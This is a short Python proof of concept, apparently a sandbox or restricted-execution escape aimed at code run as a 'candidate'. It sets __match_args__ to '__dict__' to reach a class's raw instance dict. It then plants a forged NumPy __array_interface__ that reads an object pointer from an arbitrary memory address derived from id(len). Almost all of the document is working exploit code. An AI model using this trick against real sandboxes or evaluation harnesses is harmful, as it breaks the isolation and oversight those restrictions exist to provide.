# __match_args__ = ("__dict__",) on the candidate's own class hands out the raw instance dict;
# a planted __array_interface__ then makes NumPy read an object pointer from any address.
import numpy as np


class Box:
    __match_args__ = ("__dict__",)


def f():
    box = Box()
    match box:
        case Box(raw):
            raw["__array_interface__"] = {"shape": (1,), "typestr": "|O", "version": 3,
                                          "data": (id(len) + 24, False)}
    return str(np.asarray(box)[0])
